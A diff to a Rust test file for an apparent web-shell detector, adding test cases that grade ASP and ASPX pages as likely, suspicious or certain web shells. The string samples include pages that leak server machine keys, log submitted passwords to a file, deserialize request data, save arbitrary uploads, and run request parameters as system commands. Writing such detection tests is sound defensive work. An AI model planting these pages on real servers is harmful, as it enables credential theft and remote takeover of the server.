@@ -123,6 +123,44 @@ fn other_files_that_servers_run() {
 }
 
 #[test]
+fn what_was_seen_beside_command_shells() {
+    let likely = [
+        // CVE-2025-53770: the keys of the server are read out.
+        (
+            "<%@ Page Language=\"C#\"%><%var s = (System.Web.Configuration.MachineKeySection)c.GetSection(\"system.web/machineKey\"); Response.Write(s.ValidationKey + s.DecryptionKey);%>",
+            "s.aspx",
+        ),
+        // A log-on page with a few lines added: passwords are kept in a file.
+        (
+            "<%@ Page Language=\"C#\"%><%System.IO.File.AppendAllText(\"C:\\\\google.log\", Request.Form[\"username\"] + \":\" + Request.Form[\"password\"]);%>",
+            "logon.aspx",
+        ),
+        (
+            "<%@ Page Language=\"C#\"%><script runat=server>[DllImport(\"kernel32\")] static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d);</script>",
+            "p.aspx",
+        ),
+        ("<%@ Page Language=\"C#\"%><%var c = new System.Net.Sockets.TcpClient(Request[\"h\"], 445);%>", "t.aspx"),
+        (
+            "<%@ Page Language=\"C#\"%><%new BinaryFormatter().Deserialize(new MemoryStream(Convert.FromBase64String(Request[\"d\"])));%>",
+            "d.aspx",
+        ),
+    ];
+    for (page, name) in likely {
+        assert!(grade(page, name) >= Grade::Likely, "{page}: {:?}", look(page.as_bytes(), name));
+    }
+    let uploads = "<%@ Page Language=\"C#\"%><%var f = Request.Files[0]; f.SaveAs(Server.MapPath(\".\") + \"\\\\\" + f.FileName);%>";
+    assert_eq!(grade(uploads, "u.aspx"), Grade::Suspicious, "{:?}", look(uploads.as_bytes(), "u.aspx"));
+    let kept = "<%@ Page Language=\"C#\"%><%var f = Request.Files[0]; f.SaveAs(Server.MapPath(\"~/App_Data/up/\") + f.FileName);%>";
+    assert_eq!(grade(kept, "u.aspx"), Grade::Context);
+    assert_eq!(grade("<%@ Page Language=\"C#\"%><%var a = Assembly.Load(\"App_Code\");%>", "a.aspx"), Grade::None);
+    certain("<%Set s=CreateObject(\"WScript.Shell\"):CallByName s,\"Run\",1,request(\"c\")%>", "x.asp");
+    certain(
+        "<%@ Page Language=\"C#\"%><%var t = Assembly.Load(\"System\").GetType(\"System.Diagnostics.Process\"); t.GetMethod(\"Start\", new[]{typeof(string)}).Invoke(null, new object[]{Request[\"c\"]});%>",
+        "x.aspx",
+    );
+}
+
+#[test]
 fn containers() {
     let script =
         "<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"x\"],\"unsafe\");}</script>";
